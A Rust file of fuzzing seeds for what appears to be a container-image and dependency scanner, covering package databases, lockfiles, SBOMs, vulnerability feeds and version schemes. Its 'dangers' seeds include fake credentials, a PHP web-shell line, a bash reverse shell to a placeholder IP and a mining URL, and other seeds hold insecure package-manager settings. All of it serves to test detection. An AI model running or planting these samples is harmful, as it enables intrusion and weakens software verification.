//! Small valid inputs to start from, written here.

use crate::make;
use crate::readers::{BINARIES, DISTRO, LANGUAGES, Place};
use crate::tar;

/// Seeds of a target; none for a name that is no target.
pub fn of(target: &str) -> Vec<Vec<u8>> {
    match target {
        "layer" => layer(),
        "distro" => placed(DISTRO, TEXTS).into_iter().chain(distro()).collect(),
        "languages" => placed(LANGUAGES, TEXTS).into_iter().chain(languages()).collect(),
        "binaries" => placed(BINARIES, TEXTS).into_iter().chain(binaries()).collect(),
        "dangers" => dangers(),
        "manifests" => manifests(),
        "feeds" => feeds(),
        "versions" => versions(),
        _ => Vec::new(),
    }
}

/// The byte that picks, and content.
fn picked(first: usize, content: impl AsRef<[u8]>) -> Vec<u8> {
    let first = u8::try_from(first).expect("targets pick by one byte");
    [&[first], content.as_ref()].concat()
}

/// The texts whose path ends so, each with the byte that picks the place.
fn placed(places: &[Place], texts: &[(&str, &str)]) -> Vec<Vec<u8>> {
    let of_place = |(first, place): (usize, &Place)| {
        let fits = move |(end, _): &&(&str, &str)| place.path.ends_with(end);
        texts.iter().filter(fits).map(move |(_, text)| picked(first, text)).collect::<Vec<_>>()
    };
    places.iter().enumerate().flat_map(of_place).collect()
}

const TEXTS: &[(&str, &str)] = &[
    (
        "status",
        "Package: a\nStatus: install ok installed\nVersion: 1:2-3\nArchitecture: amd64\nSource: b (4)\nConffiles:\n /etc/a 0123456789abcdef0123456789abcdef\nDescription: x\n y\n\nPackage: c\nVersion: 1\n",
    ),
    ("base", "Package: a\nVersion: 1\n"),
    (".list", "/.\n/usr\n/usr/bin\n/usr/bin/a\n"),
    (".md5sums", "0123456789abcdef0123456789abcdef  usr/bin/a\n"),
    ("diversions", "/bin/sh\n/bin/sh.distrib\ndash\n"),
    (
        "installed",
        "C:Q1AAAAAAAAAAAAAAAAAAAAAAAAAAA=\nP:musl\nV:1.2-r0\nA:x86_64\nL:MIT\no:musl\nF:lib\nR:ld.so\na:0:0:755\nZ:Q1AAAAAAAAAAAAAAAAAAAAAAAAAAA=\n\n",
    ),
    (
        "container-manifest-2",
        "bash\t5.1-1\t1\t2\tVendor\t(none)\t3\tx86_64\t0\tbash-5.1-1.src.rpm\n",
    ),
    (
        "os-release",
        "ID=debian\nVERSION_ID=\"12\"\nVERSION_CODENAME=bookworm\nID_LIKE=\"a b\"\nPRETTY_NAME='Debian \\\"12'\n",
    ),
    ("debian_version", "12.4\n"),
    ("alpine-release", "3.20.3\n"),
    ("redhat-release", "Red Hat Enterprise Linux release 9.4 (Plow)\n"),
    ("photon-release", "VMware Photon OS 5.0\nPHOTON_BUILD_NUMBER=1\n"),
    ("passwd", "root:x:0:0:root:/root:/bin/sh\nu:x:1000:1000::/:\n"),
    ("sources.list", "deb [trusted=yes arch=amd64] http://a/debian stable main\n"),
    (".sources", "Types: deb\nURIs: http://a\nTrusted: yes\n"),
    (
        "99x",
        "APT::Get { AllowUnauthenticated \"true\"; /* x */ };\nAcquire::http::Verify-Peer \"0\"; // y\n#include \"z\"\n",
    ),
    ("a.repo", "[a]\nbaseurl=http://a\ngpgcheck=0\nsslverify=false\n"),
    ("pip.conf", "[global]\ntrusted-host = a\n index-url = http://b\n"),
    ("npmrc", "strict-ssl=false\n//a/:_authToken=b\n"),
    ("gemrc", ":ssl_verify_mode: 0\n"),
    (".json", "{\"config\":{\"secure-http\":false}}"),
    ("gitconfig", "[http]\n\tsslVerify = false\n"),
    ("curlrc", "insecure\n"),
    ("go.env", "GOFLAGS=-insecure\nGONOSUMDB=*\nGOSUMDB=off\n"),
    (
        "METADATA",
        "Metadata-Version: 2.1\nName: a\nVersion: 1.0\nLicense: MIT\nClassifier: License :: OSI Approved\n\nText\n",
    ),
    (".egg-info", "Metadata-Version: 1.0\nName: a\nVersion: 1.0\n"),
    ("RECORD", "a/b.py,sha256=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA,1\n\"a,c\",,\n"),
    ("vendor.txt", "requests==2.31.0\n# x\nurllib3==1.26\n    idna==3\n"),
    (
        "b/package.json",
        "{\"name\":\"@a/b\",\"version\":\"1.0.0\",\"license\":{\"type\":\"MIT\"},\"author\":\"x\"}",
    ),
    (
        ".gemspec",
        "# -*- encoding: utf-8 -*-\n# stub: a 1.0 ruby lib\n\nGem::Specification.new do |s|\n  s.name = \"a\".freeze\n  s.version = \"1.0\"\n  s.licenses = [\"MIT\".freeze]\nend\n",
    ),
    (
        "installed.json",
        "{\"packages\":[{\"name\":\"a/b\",\"version\":\"v1.0\",\"version_normalized\":\"1.0.0.0\",\"license\":[\"MIT\"]}],\"dev\":true}",
    ),
    (".reg", "a:2:{s:4:\"name\";s:1:\"A\";s:7:\"version\";a:1:{s:7:\"release\";s:3:\"1.0\";}}"),
    (
        ".deps.json",
        "{\"runtimeTarget\":{\"name\":\"x\"},\"libraries\":{\"A/1.0\":{\"type\":\"package\",\"path\":\"a/1.0\"}},\"targets\":{\"x\":{\"A/1.0\":{\"runtime\":{\"a.dll\":{}}}}}}",
    ),
    (
        ".nuspec",
        "<?xml version=\"1.0\"?><package><metadata><id>A</id><version>1.0</version><license>MIT</license></metadata></package>",
    ),
    (
        "package-lock.json",
        "{\"lockfileVersion\":3,\"packages\":{\"\":{},\"node_modules/a\":{\"version\":\"1.0.0\",\"dev\":true}},\"dependencies\":{\"a\":{\"version\":\"1\",\"dependencies\":{\"b\":{\"version\":\"2\"}}}}}",
    ),
    (
        "npm-shrinkwrap.json",
        "{\"lockfileVersion\":1,\"dependencies\":{\"a\":{\"version\":\"1\",\"dependencies\":{\"b\":{\"version\":\"2\"}}}}}",
    ),
    (
        "yarn.lock",
        "# yarn lockfile v1\n\n\"a@^1.0\", a@~1:\n  version \"1.0.1\"\n  resolved \"https://x/a\"\n  dependencies:\n    b \"1\"\n",
    ),
    (
        "yarn.lock",
        "__metadata:\n  version: 6\n\n\"a@npm:^1.0\":\n  version: 1.0.1\n  resolution: \"a@npm:1.0.1\"\n",
    ),
    (
        "pnpm-lock.yaml",
        "lockfileVersion: '6.0'\npackages:\n  /a@1.0.0(b@2):\n    dev: true\n  /@c/d/1.0:\n    resolution: {integrity: x}\n",
    ),
    (
        "bun.lock",
        "{\n  \"lockfileVersion\": 1, // x\n  \"packages\": {\"a\": [\"a@1.0.0\", \"\", {}, \"x\"],},\n}",
    ),
    (
        "requirements.txt",
        "a==1.0 ; python_version > '3' --hash=sha256:00\nb[c]>=2\n-r x.txt\nd===1 \\\n  # e\n",
    ),
    ("poetry.lock", "[[package]]\nname = \"a\"\nversion = \"1.0\"\n"),
    ("pdm.lock", "[[package]]\nname = \"a\"\nversion = \"1.0\"\n"),
    (
        "uv.lock",
        "version = 1\n[[package]]\nname = \"a\"\nversion = \"1.0\"\nsource = { registry = \"x\" }\n",
    ),
    ("pylock.toml", "lock-version = \"1.0\"\n[[packages]]\nname = \"a\"\nversion = \"1.0\"\n"),
    (
        "Pipfile.lock",
        "{\"default\":{\"a\":{\"version\":\"==1.0\"}},\"develop\":{\"b\":{\"git\":\"x\"}}}",
    ),
    (
        "go.mod",
        "module m\n\ngo 1.22\ntoolchain go1.22.1\nrequire (\n\ta.b/c v1.0.0 // indirect\n)\nreplace a.b/c => ../c\nexclude x v1\n",
    ),
    (
        "Cargo.lock",
        "version = 3\n[[package]]\nname = \"a\"\nversion = \"1.0.0\"\nsource = \"registry+https://x\"\n",
    ),
    (
        "Gemfile.lock",
        "GEM\n  remote: https://x\n  specs:\n    a (1.0)\n      b (>= 1)\n\nDEPENDENCIES\n  a!\n",
    ),
    (
        "composer.lock",
        "{\"packages\":[{\"name\":\"a/b\",\"version\":\"v1.0\"}],\"packages-dev\":[]}",
    ),
    (
        "packages.lock.json",
        "{\"version\":1,\"dependencies\":{\"net8.0\":{\"A\":{\"type\":\"Direct\",\"resolved\":\"1.0\"}}}}",
    ),
    (
        "packages.config",
        "<packages><package id=\"A\" version=\"1.0\" developmentDependency=\"true\"/></packages>",
    ),
    ("project.assets.json", "{\"libraries\":{\"A/1.0\":{\"type\":\"package\"}}}"),
    (
        "Packages.props",
        "<Project><ItemGroup><PackageVersion Include=\"A\" Version=\"1.0\"/></ItemGroup></Project>",
    ),
    ("gradle.lockfile", "# x\ng:a:1.0=compile,runtime\nempty=\n"),
    (
        "pom.xml",
        "<project><parent><groupId>g</groupId><version>1</version></parent><artifactId>a</artifactId><properties><v>2</v></properties><dependencies><dependency><groupId>${project.groupId}</groupId><artifactId>b</artifactId><version>${v}</version></dependency></dependencies></project>",
    ),
    ("pom.properties", "#x\ngroupId=g\nartifactId=a\nversion=1.0\n"),
    (
        "node_version.h",
        "#define NODE_MAJOR_VERSION 20\n#define NODE_MINOR_VERSION 1\n#define NODE_PATCH_VERSION 0\n",
    ),
    ("VERSION", "go1.22.1\ntime 2024-01-01\n"),
];

fn distro() -> Vec<Vec<u8>> {
    let header = make::rpm_header(&[
        (1000, "a"),
        (1001, "1"),
        (1002, "2.el9"),
        (1011, "V"),
        (1014, "MIT"),
        (1022, "x86_64"),
        (1044, "a-1-2.el9.src.rpm"),
        (5096, "m:1:2:3"),
    ]);
    let ndb = make::ndb(&[&header]);
    let packages = DISTRO.iter().position(|p| p.path.ends_with("Packages.db")).unwrap_or_default();
    vec![picked(DISTRO.len(), &header), picked(packages, &ndb)]
}

fn languages() -> Vec<Vec<u8>> {
    let metadata = "Metadata-Version: 1.0\nName: a\nVersion: 1.0\n";
    let egg = make::archive(&[("EGG-INFO/PKG-INFO", metadata.as_bytes())]);
    let at = LANGUAGES.iter().position(|p| p.path.ends_with(".egg")).unwrap_or_default();
    vec![
        picked(at, &egg),
        picked(LANGUAGES.len(), metadata),
        picked(LANGUAGES.len() + 1, "{\"name\":\"a\",\"version\":\"1.0.0\"}"),
    ]
}

fn binaries() -> Vec<Vec<u8>> {
    let list = r#"{"packages":[{"name":"a","version":"1.0.0","source":"crates.io","kind":"runtime","root":true}]}"#;
    let modules =
        "0w\u{af}path\tm\nmod\tm\t(devel)\t\ndep\ta.b/c\tv1.0.0\th1:x\n=>\td.e/f\tv2.0.0\th1:y\n";
    let go = [
        b"\x08go1.22.1".as_slice(),
        &[u8::try_from(modules.len()).unwrap_or(127)],
        modules.as_bytes(),
    ]
    .concat();
    let jar = make::archive(&[
        (
            "META-INF/MANIFEST.MF",
            b"Manifest-Version: 1.0\r\nImplementation-Title: a\r\nImplementation-Version: 1.0\r\n",
        ),
        ("META-INF/maven/g/a/pom.properties", b"groupId=g\nartifactId=a\nversion=1.0\n"),
    ]);
    let nested = make::archive(&[("BOOT-INF/lib/a-1.0.jar", &jar)]);
    let end = BINARIES.len();
    let jars = BINARIES.iter().position(|p| p.path.ends_with(".jar")).unwrap_or_default();
    vec![
        picked(end, list),
        picked(end + 2, &go),
        picked(end + 3, "\0nginx version: nginx/1.25.3\0nginx/1.25.3\0"),
        picked(
            end + 4,
            "Manifest-Version: 1.0\r\nBundle-SymbolicName: a.b\r\nBundle-Version: 1.0\r\n x\r\n",
        ),
        picked(end + 5, "groupId=g\nartifactId=a\nversion=1.0\n"),
        picked(
            end + 6,
            "<project><groupId>g</groupId><artifactId>a</artifactId><version>1</version></project>",
        ),
        picked(jars, &jar),
        picked(jars, &nested),
        picked(0, make::elf(&[(".dep-v0", &make::zlib(list.as_bytes()))])),
        picked(
            0,
            make::elf(&[(
                ".rodata",
                b"x/registry/src/crates.io-6f17d22bba15001f/serde-1.0.188/src/lib.rs",
            )]),
        ),
    ]
}

fn dangers() -> Vec<Vec<u8>> {
    let key = "-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAK\n-----END RSA PRIVATE KEY-----\n";
    vec![
        picked(0, "AWS_ACCESS_KEY_ID=AKIAQ7ZLM3XN5TUVW2YB\nDB_PASSWORD=\"hT7-kq9!zLm\"\n"),
        picked(1, "[default]\naws_secret_access_key = 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\n"),
        picked(2, key),
        picked(3, "{\"auths\":{\"r.test\":{\"auth\":\"dXNlcjpzM2NyZXQ5OTg=\"}}}"),
        picked(4, "machine a.test login u password hT7kq9zLm\n"),
        picked(5, "//r.test/:_authToken=npm_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789\n"),
        picked(6, "password: hT7kq9zLm\nurl: postgres://u:hT7kq9zLm@h/db\n"),
        picked(10, "https://u:ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789@g.test\n"),
        picked(12, "API_TOKEN=hT7kq9zLmPq4"),
        picked(13, "curl -u u:hT7kq9zLm https://h.test"),
        picked(14, "0ABCDEFGHIJKLMNOPtoken = after"),
        picked(15, "1ABCDEFGHIJKLMNOPpassword=\"\"\n"),
        picked(17, "abcdefghijklmnopexport A=b\nkey: AKIA\n"),
        picked(18, "<?php eval(base64_decode($_POST['a'])); ?>"),
        picked(19, "#!/bin/sh\nbash -i >& /dev/tcp/1.2.3.4/1 0>&1\nstratum+tcp://x\n"),
    ]
}

fn layer() -> Vec<Vec<u8>> {
    let mut plain = tar::entry(b'5', b"etc/", b"", 0o755, b"");
    plain.extend(tar::entry(b'0', b"etc/os-release", b"", 0o644, b"ID=alpine\nVERSION_ID=3.20\n"));
    plain.extend(tar::entry(b'1', b"etc/b", b"etc/os-release", 0o644, b""));
    plain.extend(tar::entry(b'0', b"etc/.wh.c", b"", 0o644, b""));
    plain.resize(plain.len() + 1024, 0);
    let config = r#"{"architecture":"amd64","os":"linux","config":{"Env":["A=b"],"User":"root"},"rootfs":{"diff_ids":["sha256:0000000000000000000000000000000000000000000000000000000000000000"]},"history":[{"created_by":"RUN a"}]}"#;
    let manifest = r#"[{"Config":"config.json","RepoTags":["a:1"],"Layers":["layer.tar"]}]"#;
    let image = [manifest.as_bytes(), b"\0", config.as_bytes(), b"\0", &plain].concat();
    let mut seeds = vec![picked(0, &plain), picked(4, &image)];
    // What the maker makes of these is an archive of its own.
    for kind in [1, 2, 3, 5, 6, 7] {
        for step in [1_usize, 7, 31, 53] {
            let bytes: Vec<u8> = (0..400).map(|i| (i * step % 251) as u8).collect();
            seeds.push(picked(kind, bytes));
        }
    }
    seeds
}

fn manifests() -> Vec<Vec<u8>> {
    let digest = format!("sha256:{}", "0".repeat(64));
    let config = format!(
        r#"{{"architecture":"arm64","variant":"v8","os":"linux","created":"2026-01-01T00:00:00Z","config":{{"User":"1000:0","Env":["A=b"],"Labels":{{"a":"b"}}}},"rootfs":{{"diff_ids":["{digest}"]}},"history":[{{"created_by":"RUN a"}},{{"created_by":"ENV A=b","empty_layer":true}}]}}"#
    );
    let index = format!(
        r#"{{"schemaVersion":2,"manifests":[{{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"{digest}","size":2,"platform":{{"os":"linux","architecture":"amd64"}},"annotations":{{"org.opencontainers.image.ref.name":"a:1"}}}}]}}"#
    );
    let manifest = format!(
        r#"{{"config":{{"digest":"{digest}","size":1}},"layers":[{{"mediaType":"application/vnd.oci.image.layer.v1.tar+gzip","digest":"{digest}","size":3}}]}}"#
    );
    let docker = r#"[{"Config":"config.json","RepoTags":["a:1"],"Layers":["layer.tar"]}]"#;
    let item = haechi_image::archive::Item::Document("a".into(), digest.clone(), b"{}".to_vec());
    let link = haechi_image::archive::Item::Link("a".into(), "b".into());
    let node = haechi_image::layer::Node {
        path: "a/b".into(),
        kind: haechi_image::layer::NodeKind::Hardlink("c".into()),
        mode: 0o4755,
        uid: 0,
        gid: 0,
    };
    let layer =
        haechi_image::layer::LayerScan { size: u64::MAX, nodes: vec![node], ..Default::default() };
    let layer = haechi_image::archive::Item::Layer(String::new(), Box::new(layer));
    let mut sent = Vec::new();
    for item in [&item, &link, &layer, &layer] {
        haechi_image::worker::send(&mut sent, item).expect("memory takes it");
    }
    let mut seeds = vec![
        picked(0, docker),
        picked(1, &index),
        picked(1, &manifest),
        picked(2, &config),
        picked(3, &sent),
        picked(4, sent.get(4..).unwrap_or_default()),
        picked(5, format!("\0{config}")),
        picked(6, format!("{docker}\0{config}")),
    ];
    for text in [
        r#"{"bomFormat":"CycloneDX","specVersion":"1.5","metadata":{"component":{"type":"container","name":"a"}},"components":[{"type":"operating-system","name":"debian","version":"12"},{"type":"library","name":"a","version":"1","purl":"pkg:deb/debian/a@1?arch=amd64&distro=debian-12&upstream=b%402","licenses":[{"license":{"id":"MIT"}}],"components":[{"type":"library","name":"b","purl":"pkg:npm/%40x/b@2"}]}]}"#,
        r#"<?xml version="1.0"?><bom xmlns="http://cyclonedx.org/schema/bom/1.4"><components><component type="library"><name>a</name><version>1</version><purl>pkg:pypi/a@1</purl><licenses><license><id>MIT</id></license></licenses></component></components></bom>"#,
        r#"{"spdxVersion":"SPDX-2.3","name":"a","packages":[{"SPDXID":"SPDXRef-a","name":"a","versionInfo":"1","licenseConcluded":"MIT","externalRefs":[{"referenceCategory":"PACKAGE-MANAGER","referenceType":"purl","referenceLocator":"pkg:npm/a@1"}]}],"relationships":[]}"#,
        "SPDXVersion: SPDX-2.2\nDocumentName: a\nPackageName: a\nSPDXID: SPDXRef-a\nPackageVersion: 1\nPackageLicenseConcluded: <text>MIT\nx</text>\nExternalRef: PACKAGE-MANAGER purl pkg:npm/a@1\n",
        r#"{"artifacts":[{"name":"a","version":"1","type":"deb","purl":"pkg:deb/debian/a@1","locations":[{"path":"/x","layerID":"sha256:0"}],"licenses":[{"value":"MIT"}],"metadata":{"source":"b","sourceVersion":"2"}}],"distro":{"id":"debian","versionID":"12"},"source":{"type":"image","metadata":{"userInput":"a"}},"descriptor":{"name":"syft"},"schema":{"version":"16"}}"#,
    ] {
        seeds.push(picked(7, text));
    }
    seeds
}

fn feeds() -> Vec<Vec<u8>> {
    let osv = r#"{"id":"GHSA-a","modified":"2026-01-01T00:00:00Z","aliases":["CVE-2026-1"],"summary":"s","severity":[{"type":"CVSS_V3","score":"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],"affected":[{"package":{"ecosystem":"npm","name":"a"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"1.2.3"}]}],"versions":["1.0"],"ecosystem_specific":{"severity":"high"}}],"references":[{"type":"WEB","url":"https://a.test"}]}"#;
    let tracker = r#"{"a":{"CVE-2026-1":{"description":"d","scope":"remote","releases":{"bookworm":{"status":"resolved","fixed_version":"1-2","urgency":"low","repositories":{"bookworm":"1-1"}},"sid":{"status":"open","urgency":"unimportant","nodsa":"x"}}}}}"#;
    let secdb = r#"{"distroversion":"v3.20","reponame":"main","urlprefix":"https://dl-cdn.alpinelinux.org/alpine","packages":[{"pkg":{"name":"a","secfixes":{"1.0-r0":["CVE-2026-1 GHSA-x","CVE-2026-2"],"0":["CVE-2026-3"]}}}]}"#;
    let nvd = r#"{"totalResults":1,"timestamp":"2026-01-01T00:00:00.000","vulnerabilities":[{"cve":{"id":"CVE-2026-1","published":"2026-01-01T00:00:00.000","lastModified":"2026-01-01T00:00:00.000","vulnStatus":"Analyzed","descriptions":[{"lang":"en","value":"d"}],"metrics":{"cvssMetricV31":[{"source":"nvd@nist.gov","type":"Primary","cvssData":{"vectorString":"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H","baseScore":9.8}}]},"weaknesses":[{"description":[{"lang":"en","value":"CWE-79"}]}],"configurations":[{"operator":"AND","nodes":[{"operator":"OR","negate":false,"cpeMatch":[{"vulnerable":true,"criteria":"cpe:2.3:a:v:p:*:*:*:*:*:*:*:*","versionStartIncluding":"1","versionEndExcluding":"2"}]}]}],"references":[{"url":"https://a.test"}]}}]}"#;
    let kev = r#"{"catalogVersion":"2026.01.01","dateReleased":"2026-01-01T00:00:00.0000Z","count":1,"vulnerabilities":[{"cveID":"CVE-2026-1","dateAdded":"2026-01-01","dueDate":"2026-02-01","knownRansomwareCampaignUse":"Known"}]}"#;
    let epss = "#model_version:v2025.03.14,score_date:2026-01-01T00:00:00+0000\ncve,epss,percentile\nCVE-2026-1,0.5,0.9\n";
    let mut member = tar::entry(b'0', b"a.json", b"", 0o644, osv.as_bytes());
    member.resize(member.len() + 1024, 0);
    let zip = make::archive(&[("a.json", osv.as_bytes()), ("b.txt", b"x")]);
    let mut bundle = tar::entry(
        b'0',
        b"manifest.json",
        b"",
        0o644,
        br#"{"format":1,"created_at":"2026-01-01T00:00:00Z","files":[{"name":"kev.redb","bytes":1,"sha256":"00"}]}"#,
    );
    bundle.extend(tar::entry(b'0', b"manifest.sig", b"", 0o644, b"AAAA"));
    bundle.extend(tar::entry(b'0', b"kev.redb", b"", 0o644, b"x"));
    bundle.resize(bundle.len() + 1024, 0);
    let mut seeds = vec![
        picked(0, osv),
        picked(2, tracker),
        picked(3, secdb),
        picked(4, nvd),
        picked(6, kev),
        picked(7, epss),
        picked(11, [0, 0, 0, 0]),
        picked(11, [0, 16, 0, 0xfe]),
        picked(12, [0, 1, 0, 1, 0, 64, 0, 255]),
        picked(13, &bundle),
        picked(9, make::gzip(osv.as_bytes())),
        picked(9, make::zstd(&member)),
        picked(9, &member),
        picked(9, &zip),
    ];
    for text in [osv, tracker, secdb, nvd, kev, epss] {
        seeds.push(picked(8, text));
        seeds.push(picked(9, text));
    }
    seeds
}

fn versions() -> Vec<Vec<u8>> {
    let mut seeds = Vec::new();
    for (scheme, three) in [
        "1:1.2~rc1-1\n1.2-1+deb12u1\n0:1.2",
        "1.2_rc1-r0\n1.2.3a_p1-r1\n1.2",
        "1:1.2~b-1.el9\n1.2^git1-2\n1.2-1",
        "1.2.3-rc.1+b\nv1.2\n1.2.3-alpha",
        "1!1.0rc1.post2.dev3+local.1\n1.0a1\nv1.0-1",
        "1.0-alpha-1\n1.0-SNAPSHOT\n1.0.ga",
        "1.0.0.pre1\n1.a.2\n1.0-1",
        "v1.0-beta2\ndev-main\n1.0.x-dev",
        "1.0.0.1-Beta\n1.0\n1.0-beta+x",
        "1.0p1\n2024a\n1.0",
    ]
    .iter()
    .enumerate()
    {
        seeds.push(picked(scheme + 10, three));
        seeds.push(picked(scheme, b"\x01\x09\x02\n\x01\x0a\x19\n\x02\x09\x03"));
    }
    for vector in [
        "AV:N/AC:L/Au:N/C:P/I:P/A:C/E:U/RL:OF/RC:UC/CDP:L/TD:H/CR:M/IR:M/AR:H",
        "CVSS:3.0/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:L/A:N/E:P",
        "CVSS:3.1/AV:P/AC:H/PR:L/UI:R/S:U/C:N/I:N/A:L/MAV:N/CR:H",
        "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N/E:P/S:P/U:Red",
    ] {
        seeds.push(picked(20, vector));
    }
    seeds.push(picked(22, r#"{"@context":"https://openvex.dev/ns/v0.2.0","@id":"a","author":"b","timestamp":"2026-01-01T00:00:00Z","version":1,"statements":[{"vulnerability":{"name":"CVE-2026-1","aliases":["x"]},"products":[{"@id":"pkg:oci/a@sha256%3A00","subcomponents":[{"@id":"pkg:deb/debian/a@1"}]}],"status":"not_affected","justification":"component_not_present"}]}"#));
    seeds.push(picked(23, r#"{"bomFormat":"CycloneDX","specVersion":"1.5","components":[{"bom-ref":"r","name":"a","purl":"pkg:npm/a@1"}],"vulnerabilities":[{"id":"CVE-2026-1","analysis":{"state":"not_affected","justification":"code_not_present","detail":"d"},"affects":[{"ref":"r"}]}]}"#));
    seeds
}
